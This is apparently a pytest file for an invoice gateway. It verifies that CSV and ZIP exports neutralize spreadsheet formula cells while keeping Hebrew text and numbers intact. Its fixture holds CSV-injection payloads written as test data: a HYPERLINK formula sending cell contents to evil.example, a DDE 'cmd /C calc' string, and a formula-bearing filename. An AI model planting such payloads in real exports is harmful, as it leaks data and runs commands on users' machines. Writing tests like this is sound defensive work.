"""CSV exports against the real stack: a cell a spreadsheet would run as a formula is neutralized,
Hebrew stays as it was, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile

import pytest

from invoiceme_gateway.exports.formats import spreadsheet_safe, to_csv
from tests.support.gateway import gateway_client, gateway_settings, signup

HOSTILE = {
    "vendor_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "invoice_number": "+1+cmd|' /C calc'!A0",
    "vendor_tax_id": "-2+3",
    "document_type": "@SUM(1+1)",
    "allocation_number": "\t=1+1",
    "currency": "\r=1",
}


class TestSpreadsheetSafeCells:
    """Pure rule: text that starts a formula gets a leading apostrophe; everything else is untouched."""

    @pytest.mark.parametrize("value", ["=1+1", "+1", "-A1", "@cmd", "\t=1", "\r=1", "＝1+1"])
    def test_formula_starts_are_neutralized(self, value):
        assert spreadsheet_safe(value) == "'" + value

    @pytest.mark.parametrize("value", ['בזק בע"מ', "חשבונית מס 1234", "AWS", "", "1-800", "a=b"])
    def test_ordinary_text_is_untouched(self, value):
        assert spreadsheet_safe(value) == value

    @pytest.mark.parametrize("value", [-120.5, -3, "-120.50", "-0.5", "+972"])
    def test_numbers_stay_numbers(self, value):
        safe = spreadsheet_safe(value)
        assert safe == value or (value == "+972" and safe == "'+972")

    def test_to_csv_applies_it_to_every_cell(self):
        content = to_csv([{"a": "=1+1", "b": -4, "c": "שלום"}], ["a", "b", "c"]).decode("utf-8-sig")
        assert list(csv.reader(io.StringIO(content)))[1] == ["'=1+1", "-4", "שלום"]


@pytest.fixture
async def hostile_invoice(database_url, nats_url, namespace, db):
    async with gateway_client(gateway_settings(database_url, nats_url, namespace)) as client:
        headers = await signup(client)
        pdf = b"%PDF-1.4\n% " + uuid.uuid4().hex.encode() + b"\n%%EOF\n"
        upload = await client.post(
            "/api/invoices", headers=headers, files={"file": ("=cmd()|x.pdf", pdf, "application/pdf")}
        )
        assert upload.status_code == 202, upload.text
        invoice_id = uuid.UUID(upload.json()["id"])
        fields = {**HOSTILE, "invoice_date": "2026-10-03", "total": -120.5, "subtotal": -102.12}
        await db.execute("UPDATE invoices SET status = 'ocr_done' WHERE id = $1", invoice_id)
        await db.execute(
            "UPDATE invoices SET fields = $2, status = 'extracted' WHERE id = $1", invoice_id, fields
        )
        yield client, headers


def _rows(content: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.removeprefix("\ufeff"))))


def _assert_neutralized(row: dict[str, str]) -> None:
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column
    assert row["filename"] == "'=cmd()|x.pdf"
    assert row["total"] == "-120.5" and row["subtotal"] == "-102.12"


class TestCsvExports:
    """Every CSV export neutralizes formula cells."""

    async def test_invoices_csv(self, hostile_invoice):
        client, headers = hostile_invoice
        response = await client.get("/api/exports/invoices.csv", headers=headers)
        assert response.status_code == 200
        _assert_neutralized(_rows(response.content.decode("utf-8"))[0])

    async def test_accountant_zip_csv(self, hostile_invoice):
        client, headers = hostile_invoice
        response = await client.get("/api/exports/accountant/2026-10.zip", headers=headers)
        assert response.status_code == 200
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            _assert_neutralized(_rows(archive.read("invoices.csv").decode("utf-8"))[0])

    async def test_json_export_keeps_values_as_they_are(self, hostile_invoice):
        client, headers = hostile_invoice
        items = (await client.get("/api/exports/invoices.json", headers=headers)).json()["items"]
        assert items[0]["vendor_name"] == HOSTILE["vendor_name"]
